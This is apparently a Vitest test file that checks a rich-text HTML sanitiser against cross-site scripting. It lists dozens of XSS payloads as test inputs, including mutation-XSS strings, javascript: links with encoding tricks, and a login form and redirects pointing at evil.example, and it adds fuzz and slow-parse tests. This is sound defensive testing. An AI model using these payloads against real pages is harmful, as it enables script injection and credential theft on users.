import { expect, test } from 'vitest';
import { richHtml, sanitiseRichText } from './rich-html.ts';
import { parseRichText } from './rich-text.ts';

const attributes =
  '(?: href="(?:https?://|mailto:|tel:|[/?#]|[^":]*")[^"<>]*"?| target="_(?:blank|self)"| rel="[\\w -]*"| class="[\\w -]*")*';
const harmless = new RegExp(
  `^(?:[^<>]|</?(?:b|i|u|p|ul|ol|li|h2|h3|h4|a|span)>|<br>|<(?:a|span)${attributes}>)*$`,
);

test.for([
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<ScRiPt src=//evil.example>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><style><a title="</style><img src=x onerror=alert(1)>">',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<template><p><img src=x onerror=alert(1)></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<p style="background:url(javascript:alert(1))" onclick=alert(1)>x</p>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="x" onmouseover="alert(1)">x</a>',
  '<a href=\'x" onmouseover="alert(1)\'>x</a>',
  '<b/onclick=alert(1)>x</b>',
  '<p "><img src=x onerror=alert(1)>',
  '<span class="a&quot; onclick=&quot;alert(1)">x</span>',
  '<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>',
  '<form action=//evil.example><input name=password><button>Go</button></form>',
  '<a href="x" target="top" href="javascript:alert(1)">x</a>',
  '<plaintext><b>x',
  '<\u0000script>alert(1)</script>',
])('XSS-01 of %s only what rich text may contain is kept', (hostile) => {
  const kept = sanitiseRichText(hostile);
  expect(kept).toMatch(harmless);
  expect(sanitiseRichText(kept)).toBe(kept);
});

test('XSS-01 allowed markup is kept', () => {
  const html =
    '<h2>Our <i>news</i></h2><p>Tom &amp; <b>you</b>,<br>see <a href="https://shop.example/a?b=1&amp;c=2" ' +
    'target="_blank" rel="noopener">this</a></p><ul><li>one<ol><li>two</li></ol></li></ul><span class="hint">x</span>';
  expect(sanitiseRichText(html)).toBe(html);
});

test.for([
  'javascript:alert(1)',
  'JaVa\tScript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript&#58;alert(1)',
  'java&Tab;script&NewLine;:alert(1)',
  ' \u0001javascript:alert(1)',
  '\u200bjavascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'blob:https://x.example/1',
  'file:///etc/passwd',
  '//evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  '&sol;&sol;evil.example',
])('XSS-03 a link to %s is disarmed', (address) => {
  expect(sanitiseRichText(`<a href="${address}">x</a>`)).toBe('<a>x</a>');
});

test.for([
  'https://a.example/b:c',
  'mailto:a@b.example',
  'tel:+4912',
  '/terms',
  '#part',
  '?a=b:c',
  '{{Link}}',
])('a link to %s stays', (address) => {
  expect(sanitiseRichText(`<a href="${address}">x</a>`)).toBe(`<a href="${address}">x</a>`);
});

test('XSS-12 names and ids that could replace those of a page are dropped', () => {
  const html = '<a id=config name="attributes">x</a><p id="__INITIAL__">y</p><span class="a" id=b>z</span>';
  expect(sanitiseRichText(html)).toBe('<a>x</a><p>y</p><span class="a">z</span>');
});

const pieces = [
  '<',
  '>',
  '"',
  "'",
  '/',
  '=',
  '&',
  ';',
  '!',
  '--',
  '<!--',
  '-->',
  ']]>',
  '<![CDATA[',
  ' ',
  '\n',
  '\0',
  'script',
  'style',
  'svg',
  'a',
  'b',
  'p',
  'br',
  'li',
  'h2',
  'span',
  'x',
  '</',
  'href',
  'class',
  'onclick',
  'javascript:',
  'https://',
  '&lt;',
  '&#60;',
  '&amp;',
  '&colon;',
  '\ud800',
  'é',
  '<a href="',
  '<p>',
  '</p>',
];

/** The same sequence of numbers from 0 to below 1 for the same seed. */
const numbersFrom = (seed: number) => () => {
  seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0;
  return seed / 2 ** 32;
};

test('XSS-01 twenty thousand texts of hostile pieces stay harmless, and cleaning them twice changes nothing', () => {
  const next = numbersFrom(Number(process.env['SEED'] ?? 7));
  for (let run = 0; run < 20_000; run += 1) {
    const count = 1 + Math.floor(next() * 24);
    const text = Array.from({ length: count }, () => pieces[Math.floor(next() * pieces.length)]).join('');
    const kept = sanitiseRichText(text);
    expect(kept, `${text}`).toMatch(harmless);
    expect(sanitiseRichText(kept), `${text}`).toBe(kept);
    expect(richHtml(parseRichText(kept)), `${text}`).toBe(kept);
  }
});

test.for(['<a', '<a "', "<b '", '<!--', '<!', '<script>', '<b>', '</p', '<p title="', '&#', '<scr<script>'])(
  'a text of nothing but %s is parsed in time proportional to its length',
  (piece) => {
    const started = performance.now();
    sanitiseRichText(piece.repeat(Math.ceil(65_536 / piece.length)));
    expect(performance.now() - started).toBeLessThan(10_000);
  },
);
